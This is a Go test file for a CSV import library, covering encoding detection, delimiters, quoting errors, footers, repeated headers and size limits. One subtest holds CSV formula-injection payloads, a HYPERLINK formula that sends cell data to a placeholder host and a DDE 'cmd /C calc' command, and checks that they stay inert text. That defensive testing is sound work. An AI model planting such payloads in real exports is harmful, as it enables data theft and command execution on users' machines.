package imports_test

import (
	"bytes"
	"errors"
	"io"
	"reflect"
	"strings"
	"testing"

	"golang.org/x/text/encoding/charmap"
	"golang.org/x/text/encoding/japanese"
	"golang.org/x/text/encoding/unicode"

	"github.com/throughline/throughline/backend/imports"
)

func utf16le(t *testing.T, s string, bom bool) []byte {
	t.Helper()
	policy := unicode.IgnoreBOM
	if bom {
		policy = unicode.UseBOM
	}
	b, err := unicode.UTF16(unicode.LittleEndian, policy).NewEncoder().Bytes([]byte(s))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestCatalogueC(t *testing.T) {
	t.Run("C1_UTF8BOMIsStripped", func(t *testing.T) {
		tb := mustCSV(t, "bom.csv", "\uFEFFKey,Summary\nK-1,Zoë\n", imports.Options{})
		if tb.Headers[0].Name != "Key" || tb.Encoding != imports.EncodingUTF8BOM {
			t.Fatalf("first header %q, encoding %s", tb.Headers[0].Name, tb.Encoding)
		}
	})
	t.Run("C2_UTF16LETabSeparated", func(t *testing.T) {
		for _, bom := range []bool{true, false} {
			data := utf16le(t, "Key\tSummary\tTeam\r\nK-1\tRefund\t山田\r\nK-2\tJürgen's fix\tZoë\r\n", bom)
			tb, err := readCSV(t, "unicode.txt", data, imports.Options{})
			if err != nil {
				t.Fatal(err)
			}
			rows := allRows(t, tb)
			if tb.Encoding != imports.EncodingUTF16LE || tb.Delimiter != '\t' || len(rows) != 2 || rows[0].Text(2) != "山田" || rows[1].Text(1) != "Jürgen's fix" {
				t.Errorf("bom %v: %s %q %v", bom, tb.Encoding, tb.Delimiter, rows)
			}
		}
	})
	t.Run("C2_UTF16BE", func(t *testing.T) {
		data, _ := unicode.UTF16(unicode.BigEndian, unicode.UseBOM).NewEncoder().Bytes([]byte("Key,Team\nK-1,Zoë\n"))
		tb, err := readCSV(t, "be.csv", data, imports.Options{})
		if err != nil || tb.Encoding != imports.EncodingUTF16BE || allRows(t, tb)[0].Text(1) != "Zoë" {
			t.Fatalf("%v %v", tb, err)
		}
	})
	t.Run("C3_Windows1252IsDecodedAndReported", func(t *testing.T) {
		data, _ := charmap.Windows1252.NewEncoder().Bytes([]byte("Key;Owner;Amount\nK-1;Jürgen Weiß;12,50 €\n"))
		tb, err := readCSV(t, "latin.csv", data, imports.Options{})
		if err != nil {
			t.Fatal(err)
		}
		rows := allRows(t, tb)
		if tb.Encoding != imports.EncodingWindows1252 || rows[0].Text(1) != "Jürgen Weiß" || rows[0].Text(2) != "12,50 €" {
			t.Fatalf("%s %v", tb.Encoding, rows)
		}
		if ps := problemStrings(tb.Problems()); !strings.Contains(ps, "latin.csv: is not UTF-8; it was read as Windows-1252") {
			t.Errorf("problems = %q", ps)
		}
	})
	t.Run("C3_ChosenEncoding", func(t *testing.T) {
		data, _ := japanese.ShiftJIS.NewEncoder().Bytes([]byte("Key,Owner\nK-1,山田 太郎\n"))
		tb, err := readCSV(t, "sjis.csv", data, imports.Options{Encoding: "shift_jis"})
		if err != nil {
			t.Fatal(err)
		}
		if rows := allRows(t, tb); tb.Encoding != "shift_jis" || rows[0].Text(1) != "山田 太郎" {
			t.Fatalf("%s %v", tb.Encoding, rows)
		}
		_, err = readCSV(t, "x.csv", data, imports.Options{Encoding: "klingon"})
		assertErr(t, err, imports.ErrEncoding, `"klingon" is not an encoding`)
	})
	t.Run("C3_MixedEncodingsAreRejected", func(t *testing.T) {
		latin, _ := charmap.Windows1252.NewEncoder().Bytes([]byte("K-2,Jürgen\n"))
		data := append([]byte("Key,Owner\nK-1,Zoë\n"), latin...)
		_, err := readCSV(t, "mixed.csv", data, imports.Options{})
		assertErr(t, err, imports.ErrEncoding, "mixed.csv mixes text encodings", "line 2 has UTF-8", "line 3 has bytes that are not UTF-8")
	})
	t.Run("C3_MixedEncodingPastTheSniffedStartIsARowError", func(t *testing.T) {
		var b bytes.Buffer
		b.WriteString("Key,Owner\n")
		for b.Len() < 70_000 {
			b.WriteString("K-1,Zoë\n")
		}
		b.WriteString("K-2,J\xfcrgen\n")
		tb, err := readCSV(t, "late.csv", b.Bytes(), imports.Options{})
		if err != nil {
			t.Fatal(err)
		}
		rows := allRows(t, tb)
		last := rows[len(rows)-1]
		if len(last.Problems) != 1 || last.Problems[0].Severity != imports.SeverityError || !strings.Contains(last.Problems[0].String(), "column B (Owner): \"J\ufffdrgen\" contains bytes that are not valid UTF-8") {
			t.Fatalf("problems = %s", problemStrings(last.Problems))
		}
	})
	t.Run("C4_SepLineAndDecimalComma", func(t *testing.T) {
		tb := mustCSV(t, "de.csv", "sep=;\nKey;Points;Amount\nK-1;1,5;1.234,56\nK-2;2;10,00\n", imports.Options{})
		rows := allRows(t, tb)
		if tb.Delimiter != ';' || tb.HeaderRow != 2 || rows[0].Number != 3 || tb.Headers[0].Name != "Key" {
			t.Fatalf("delimiter %q, header row %d, rows %v", tb.Delimiter, tb.HeaderRow, rows)
		}
		nc := imports.NewNumberColumn("de.csv", "", tb.Headers[2], 0)
		for _, r := range rows {
			nc.Observe(r.Number, r.Cell(2))
		}
		if n, p := nc.Parse(rows[0].Number, rows[0].Cell(2)); p != nil || n.Value != 1234.56 {
			t.Errorf("1.234,56 = %v, %v", n, p)
		}
	})
	t.Run("C5_TabPipeAndSingleColumn", func(t *testing.T) {
		for _, c := range []struct {
			data  string
			delim rune
		}{{"Key\tSummary\nK-1\tA, B; C\n", '\t'}, {"Key|Summary\nK-1|A, B; C\n", '|'}, {"Key;Summary\nK-1;A, B\nK-2;C\n", ';'}} {
			if tb := mustCSV(t, "d.csv", c.data, imports.Options{}); tb.Delimiter != c.delim {
				t.Errorf("%q: delimiter %q, want %q", c.data, tb.Delimiter, c.delim)
			}
		}
		_, err := readCSV(t, "keys.csv", []byte("Key\nK-1\nK-2\n"), imports.Options{})
		assertErr(t, err, nil, "keys.csv has a single column", "choose the delimiter")
		tb, err := readCSV(t, "keys.csv", []byte("Key\nK-1\nK-2\n"), imports.Options{Delimiter: ','})
		if err != nil || len(allRows(t, tb)) != 2 {
			t.Fatalf("with a chosen delimiter: %v", err)
		}
	})
	t.Run("C6_QuotedDelimitersEscapesAndLineBreaks", func(t *testing.T) {
		data := "Key,Summary,Points\r\nK-1,\"Refund, then \"\"retry\"\"\",3\r\nK-2,\"Line one\r\nline two\r\n\r\nline four\",5\r\n\r\nK-3,Plain,8\r\n"
		rows := allRows(t, mustCSV(t, "q.csv", data, imports.Options{}))
		if got := []int{rows[0].Number, rows[1].Number, rows[2].Number}; !reflect.DeepEqual(got, []int{2, 3, 8}) {
			t.Errorf("row numbers %v, want physical lines [2 3 8]", got)
		}
		if rows[0].Text(1) != `Refund, then "retry"` || rows[1].Text(1) != "Line one\nline two\n\nline four" {
			t.Errorf("values %q / %q", rows[0].Text(1), rows[1].Text(1))
		}
	})
	t.Run("C7_BareQuoteIsRejectedWithLineAndColumn", func(t *testing.T) {
		err := readErr(t, "bare.csv", "Key,Summary\nK-1,ok\nK-2,ab\"c\n", imports.Options{})
		assertErr(t, err, imports.ErrSyntax, `bare.csv, row 3, column B (Summary): has a quote (") inside a value`, "character 7")
		var b strings.Builder
		b.WriteString("Key,Summary\n")
		for i := 0; i < 60; i++ {
			b.WriteString("K-1,ok\n")
		}
		b.WriteString("K-2,ab\"c\n")
		tb := mustCSV(t, "late.csv", b.String(), imports.Options{})
		n := 0
		err = tb.Each(func(imports.Row) error { n++; return nil })
		assertErr(t, err, imports.ErrSyntax, `late.csv, row 62, column B (Summary): has a quote`)
		if n != 60 {
			t.Errorf("rows before the error = %d, want 60", n)
		}
		lazy := allRows(t, mustCSV(t, "bare.csv", "Key,Summary\nK-1,ok\nK-2,ab\"c\n", imports.Options{LazyQuotes: true}))
		if lazy[1].Text(1) != `ab"c` {
			t.Errorf("lazy = %q", lazy[1].Text(1))
		}
	})
	t.Run("C7_UnclosedQuoteAtTheEnd", func(t *testing.T) {
		for _, lazy := range []bool{false, true} {
			err := readErr(t, "open.csv", "Key,Summary\nK-1,ok\nK-2,\"never closed\nK-3,swallowed\n", imports.Options{LazyQuotes: lazy})
			assertErr(t, err, imports.ErrSyntax, "open.csv, row 3, column B (Summary)", "never closed", "line 3")
		}
	})
	t.Run("C8_ClassicMacLineEndings", func(t *testing.T) {
		rows := allRows(t, mustCSV(t, "mac.csv", "Key,Summary\rK-1,a\rK-2,b\r", imports.Options{}))
		if len(rows) != 2 || rows[1].Number != 3 || rows[1].Text(1) != "b" {
			t.Fatalf("rows %v", rows)
		}
	})
	t.Run("C9_RaggedRowsAndFooters", func(t *testing.T) {
		data := "Key,Summary,Points\nK-1,a,1\nK-2,b\nK-3,c,3,oops\nK-4,d,4\nTotal,,8\nGenerated on 25/02/2026 by Jira\n"
		tb := mustCSV(t, "ragged.csv", data, imports.Options{})
		rows := allRows(t, tb)
		if len(rows) != 4 {
			t.Fatalf("rows = %d, want 4 (footers left out)", len(rows))
		}
		if p := rows[1].Problems; len(p) != 1 || p[0].Severity != imports.SeverityWarning || !strings.Contains(p[0].String(), "row 3: has 2 fields but the header has 3") {
			t.Errorf("short row: %s", problemStrings(p))
		}
		if p := rows[2].Problems; len(p) != 1 || p[0].Severity != imports.SeverityError || !strings.Contains(p[0].String(), `row 4, column D: "oops" is in a column that has no header`) {
			t.Errorf("long row: %s", problemStrings(p))
		}
		ps := problemStrings(tb.Problems())
		if !strings.Contains(ps, `row 6: "Total" looks like a total or footer line`) || !strings.Contains(ps, "row 7: \"Generated on") {
			t.Errorf("footer problems = %q", ps)
		}
		rows = allRows(t, mustCSV(t, "mid.csv", "Key,Summary,Points\nTotal,,8\nK-1,a,1\n", imports.Options{}))
		if len(rows) != 2 || rows[0].Text(0) != "Total" {
			t.Errorf("a footer-like row above data was dropped: %v", rows)
		}
	})
	t.Run("C10_RepeatedHeadersKeptByPosition", func(t *testing.T) {
		var head, row []string
		head, row = append(head, "Issue key", "Summary", "Estimate"), append(row, "PAY-1", "x", "3")
		for i := 1; i <= 16; i++ {
			head, row = append(head, "Sprint"), append(row, "Sprint "+strings.Repeat("I", i%4+1))
		}
		head, row = append(head, "Labels", "Labels", "Estimate"), append(row, "a", "b", "5")
		tb := mustCSV(t, "jira.csv", strings.Join(head, ",")+"\n"+strings.Join(row, ",")+"\n", imports.Options{})
		rows := allRows(t, tb)
		if got := tb.Values(rows[0], "Sprint"); len(got) != 16 || got[0] != "Sprint II" || got[15] != "Sprint I" {
			t.Errorf("sprints = %q", got)
		}
		if got := tb.Columns("sprint"); got[15].Occurrence != 16 || got[15].Label() != "Sprint (16)" {
			t.Errorf("last sprint column = %+v", got[15])
		}
		if got := tb.Values(rows[0], "Estimate"); !reflect.DeepEqual(got, []string{"3", "5"}) {
			t.Errorf("estimates = %q", got)
		}
		ps := problemStrings(tb.Problems())
		if !strings.Contains(ps, `column "Estimate": appears 2 times (columns C, V)`) || strings.Contains(ps, "Sprint") || strings.Contains(ps, "Labels") {
			t.Errorf("problems = %q, want a warning for Estimate only", ps)
		}
	})
	t.Run("C11_HeaderSpacingAndCase", func(t *testing.T) {
		tb := mustCSV(t, "h.csv", "  ISSUE KEY ,Issue\u00a0Type,summary  ,Status,Created\nK-1,Story,x,Done,2026-02-25\n", imports.Options{})
		d := imports.Detect(tb.Headers, tb.Sample(5))
		if tb.Headers[0].Name != "ISSUE KEY" || tb.Headers[1].Name != "Issue Type" || d.Format != imports.FormatJira {
			t.Fatalf("headers %q, format %s", headerNames(tb), d.Format)
		}
	})
	t.Run("C12_NoDataRows", func(t *testing.T) {
		for name, data := range map[string]string{"empty": "", "bom only": "\uFEFF", "blank lines": "\n\r\n\n", "header only": "Key,Summary\r\n", "delimiters only": ",,,\n,,,\n"} {
			_, err := readCSV(t, "none.csv", []byte(data), imports.Options{})
			if !errors.Is(err, imports.ErrNoData) || !strings.Contains(err.Error(), "none.csv") {
				t.Errorf("%s: %v, want a no-data error", name, err)
			}
		}
	})
	t.Run("C13_HugeLineWithoutNewlineStopsAtTheCellCap", func(t *testing.T) {
		r := &countingReader{r: io.LimitReader(repeatReader('a'), 200<<20)}
		_, err := imports.ReadCSV("line.csv", r, imports.Options{})
		assertErr(t, err, imports.ErrLimit, "line.csv, row 1, column A", "32,767 characters")
		if r.n > 1<<20 {
			t.Errorf("read %d bytes before rejecting", r.n)
		}
	})
	t.Run("CSV_10000Columns", func(t *testing.T) {
		data := "Key,Summary\n" + strings.Repeat("x,", 10_000) + "x\n"
		err := readErr(t, "wide.csv", data, imports.Options{})
		assertErr(t, err, imports.ErrLimit, "wide.csv, row 2, column "+imports.ColumnLetter(imports.DefaultMaxColumns), "more than 4,096 columns")
	})
	t.Run("CSV_100000CharField", func(t *testing.T) {
		data := "Key,Summary\nK-1,\"" + strings.Repeat("ü", 100_000) + "\"\n"
		err := readErr(t, "long.csv", data, imports.Options{})
		assertErr(t, err, imports.ErrLimit, "long.csv, row 2, column B (Summary)", "longer than 32,767 characters")
	})
	t.Run("CSV_BinaryGarbage", func(t *testing.T) {
		garbage := make([]byte, 4096)
		for i := range garbage {
			garbage[i] = byte(i*7919 + i/3)
		}
		_, err := readCSV(t, "garbage.csv", garbage, imports.Options{})
		assertErr(t, err, imports.ErrNotText, "garbage.csv is not a text file")
		_, err = readCSV(t, "book.csv", simpleWorkbook(t), imports.Options{})
		assertErr(t, err, imports.ErrNotText, "book.csv is an Excel workbook", "Rename it to .xlsx")
		_, err = openBytes(t, "book.csv", simpleWorkbook(t), imports.Options{})
		assertErr(t, err, imports.ErrNotText, "Rename it to .xlsx")
	})
	t.Run("CSV_FormulaLookingCellsStayText", func(t *testing.T) {
		rows := allRows(t, mustCSV(t, "f.csv", "Key,Summary\nK-1,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\"\nK-2,+cmd|' /C calc'!A0\nK-3,@SUM(1)\n", imports.Options{}))
		want := []string{`=HYPERLINK("http://x/?"&A1,"click")`, `+cmd|' /C calc'!A0`, "@SUM(1)"}
		for i, w := range want {
			if rows[i].Text(1) != w || rows[i].Cell(1).Kind != imports.CellText {
				t.Errorf("row %d = %q", i, rows[i].Text(1))
			}
		}
	})
}

// readErr reads a whole CSV and returns the first error, from opening or
// from the rows.
func readErr(t *testing.T, name, data string, opts imports.Options) error {
	t.Helper()
	tb, err := readCSV(t, name, []byte(data), opts)
	if err != nil {
		return err
	}
	return tb.Each(func(imports.Row) error { return nil })
}

type repeatReader byte

func (r repeatReader) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = byte(r)
	}
	return len(p), nil
}

type countingReader struct {
	r io.Reader
	n int
}

func (c *countingReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n += n
	return n, err
}
